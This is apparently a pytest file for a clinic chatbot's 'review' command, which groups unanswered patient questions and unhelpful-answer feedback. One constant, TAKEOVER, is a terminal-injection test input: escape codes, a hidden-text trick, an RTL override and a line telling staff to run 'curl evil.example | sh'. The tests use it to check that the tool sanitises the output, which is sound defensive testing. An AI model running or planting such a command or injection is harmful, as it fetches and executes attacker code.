from __future__ import annotations

import datetime
import json
import shutil
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from support import FakeEncoder, ready

from chatbot.answering.assistant import Assistant
from chatbot.channels.terminal.cli import cli
from chatbot.channels.web.app import create_app
from chatbot.domain import Match
from chatbot.quality.review import group
from chatbot.settings import Settings
from chatbot.storage.store import DB_FILE, Unanswered, UnansweredStore

WHEN = datetime.datetime(2025, 6, 1, tzinfo=datetime.UTC)

LOG = [
    ("can i bring my dog", "companion", 0.41),
    ("is there parking", "directions", 0.38),
    ("can i bring my dog with me", "companion", 0.45),
    ("can i bring my dog", "wifi", 0.30),
    ("is there parking nearby", "directions", 0.52),
    ("do you take medicare", "cost", 0.47),
]


def rows(log: list[tuple[str, str, float]] = LOG) -> list[Unanswered]:
    return [Unanswered(WHEN, "web", question, (Match(entry, score),)) for question, entry, score in log]


def test_questions_are_grouped_by_meaning_most_asked_first() -> None:
    groups = group(rows(), FakeEncoder())
    assert [g.count for g in groups] == [3, 2, 1]
    dogs, parking, medicare = groups
    assert dogs.examples == ("can i bring my dog", "can i bring my dog with me")
    assert parking.examples == ("is there parking", "is there parking nearby")
    assert medicare.examples == ("do you take medicare",)


def test_each_group_names_the_entry_most_of_its_questions_came_nearest() -> None:
    dogs, parking, medicare = group(rows(), FakeEncoder())
    assert dogs.nearest == Match("companion", 0.45)
    assert parking.nearest == Match("directions", 0.52)
    assert medicare.nearest == Match("cost", 0.47)


def test_at_most_three_examples_most_frequent_first() -> None:
    log = [("is there parking", "directions", 0.4)] * 3 + [
        ("is there parking nearby", "directions", 0.4),
        ("is there parking close by", "directions", 0.4),
        ("is there parking close by", "directions", 0.4),
        ("is there parking at night", "directions", 0.4),
    ]
    (parking,) = group(rows(log), FakeEncoder(), threshold=0.5)
    assert parking.count == 7
    assert parking.examples == ("is there parking", "is there parking close by", "is there parking nearby")


def test_a_strict_threshold_keeps_every_wording_apart() -> None:
    assert len(group(rows(), FakeEncoder(), threshold=0.999)) == 5  # only the identical dog questions meet


def test_an_empty_log_has_no_groups() -> None:
    assert group([], FakeEncoder()) == []


# -- chatbot review ------------------------------------------------------------------------------


@pytest.fixture
def logged(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake: Assistant) -> Path:
    """A var folder with the log above, and `chatbot review` answering with the fake encoder."""
    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
    monkeypatch.setattr("chatbot.kb.startup.load_assistant", lambda settings: fake)
    now = [WHEN]
    store = UnansweredStore(tmp_path / DB_FILE, retention_days=100_000, clock=lambda: now[0].timestamp())
    for day, (question, entry, score) in enumerate(LOG):
        now[0] = WHEN + datetime.timedelta(days=day)  # one question a day
        store.add("sms" if day == 2 else "web", question, [Match(entry, score)])
    store.close()
    monkeypatch.setenv("CHATBOT_RETENTION_DAYS", "100000")
    return tmp_path


def test_review_prints_the_groups_with_counts_examples_and_nearest_entry(logged: Path) -> None:
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 0, result.output
    assert "6 unanswered questions" in result.output and "in 3 groups" in result.output
    lines = [line.strip() for line in result.output.splitlines()]
    first = lines.index("3x  nearest entry: companion (0.45); last asked 2025-06-04 00:00 UTC; web 2, sms 1")
    assert lines[first + 1 : first + 3] == ["- can i bring my dog", "- can i bring my dog with me"]
    assert "2x  nearest entry: directions (0.52); last asked 2025-06-05 00:00 UTC; web 2" in lines
    assert "add the wordings to that entry's alternates" in result.output


def test_review_unresolved_hides_what_the_knowledge_base_now_answers(logged: Path, fake: Assistant) -> None:
    store = UnansweredStore(logged / DB_FILE, retention_days=100_000)
    store.add("web", fake.kb.entry("cost").question, [Match("cost", 0.5)])  # asked before the entry existed, say
    store.close()
    everything = CliRunner().invoke(cli, ["review"])
    assert "7 unanswered questions" in everything.output
    result = CliRunner().invoke(cli, ["review", "--unresolved"])
    assert result.exit_code == 0, result.output
    assert (
        "6 unanswered questions" in result.output
        and "1 more that the knowledge base now answers are hidden" in result.output
    )
    assert fake.kb.entry("cost").question not in result.output


def test_review_export_writes_json_lines(logged: Path, tmp_path: Path) -> None:
    out = tmp_path / "unanswered.jsonl"
    result = CliRunner().invoke(cli, ["review", "--export", str(out)])
    assert result.exit_code == 0, result.output
    exported = [json.loads(line) for line in out.read_text().splitlines()]
    assert [row["question"] for row in exported] == [question for question, _, _ in LOG]
    assert exported[0]["channel"] == "web"
    assert exported[0]["candidates"] == [{"id": "companion", "score": 0.41}]
    assert datetime.datetime.fromisoformat(exported[0]["at"]).tzinfo is not None


def test_review_with_nothing_logged_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path / "var"))
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 0
    assert "No unanswered questions in" in result.output and "kept 30 days" in result.output


def test_an_unreadable_database_is_an_error_message_not_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
    (tmp_path / DB_FILE).write_bytes(b"this is not a database" * 100)
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 2
    assert f"Error: Cannot read {tmp_path / DB_FILE}" in result.output


def test_review_lists_answers_marked_unhelpful_by_entry_with_their_questions(logged: Path) -> None:
    store = UnansweredStore(logged / DB_FILE, retention_days=30)
    for entry, helpful, question in [
        ("cost", False, "do you take medicare, call 555-867-5309"),
        ("wifi", False, "can i stream movies"),
        ("cost", True, "how much is it"),
        ("cost", False, "is there a payment plan"),
    ]:
        store.add_feedback(entry, helpful, question)
    store.close()
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 0, result.output
    section = [line.strip() for line in result.output.split("Answers marked unhelpful")[1].splitlines()]
    first = section.index("2x  entry cost")
    assert section[first + 1 : first + 3] == ["- do you take medicare, call [phone]", "- is there a payment plan"]
    assert "1x  entry wifi" in section and "- how much is it" not in section


def test_feedback_is_reviewed_even_with_no_unanswered_questions(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
    store = UnansweredStore(tmp_path / DB_FILE, retention_days=30)
    store.add_feedback("wifi", False, "can i stream movies")
    store.close()
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 0, result.output
    assert "No unanswered questions" in result.output and "1x  entry wifi" in result.output


# What an anonymous patient sent to take over a staff member's terminal (issue 17, finding 2).
TAKEOVER = (
    "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
)


def test_a_question_sent_to_take_over_the_terminal_reaches_review_harmless(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake: Assistant
) -> None:
    with TestClient(create_app(Settings(var_dir=tmp_path), load=lambda: fake)) as client:
        ready(client)
        assert client.post("/v1/ask", json={"question": "zebra quantum " + TAKEOVER}).json()["kind"] == "fallback"
    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
    monkeypatch.setattr("chatbot.kb.startup.load_assistant", lambda settings: fake)
    for args in (["review"], ["review", "--export", "-"]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 0, result.output
        assert "STAFF NOTICE" in result.output
        assert not any(ch in result.output for ch in "\x1b\x07\u202e")


def test_a_row_stored_with_escape_codes_by_an_older_version_is_printed_escaped(logged: Path) -> None:
    with sqlite3.connect(logged / DB_FILE) as db:
        db.execute("UPDATE unanswered SET question = ? WHERE question = 'do you take medicare'", (TAKEOVER,))
    shown = CliRunner().invoke(cli, ["review"]).output
    assert "\\x1b[2J" in shown and "\\u202e" in shown
    exported = CliRunner().invoke(cli, ["review", "--export", "-"]).output
    assert TAKEOVER in [json.loads(line)["question"] for line in exported.splitlines()]  # escaped, yet the same text
    assert not any(ch in shown + exported for ch in "\x1b\x07\u202e")


def test_review_finds_the_questions_from_another_folder(
    logged: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`var` is under CHATBOT_HOME (by default the project folder), wherever the command is run from."""
    home = tmp_path / "clinic"
    (home / "var").mkdir(parents=True)
    shutil.copy(logged / DB_FILE, home / "var" / DB_FILE)
    monkeypatch.delenv("CHATBOT_VAR_DIR")
    monkeypatch.setenv("CHATBOT_HOME", str(home))
    monkeypatch.chdir(logged)
    result = CliRunner().invoke(cli, ["review"])
    assert result.exit_code == 0, result.output
    assert f"6 unanswered questions in {home / 'var' / DB_FILE}" in result.output
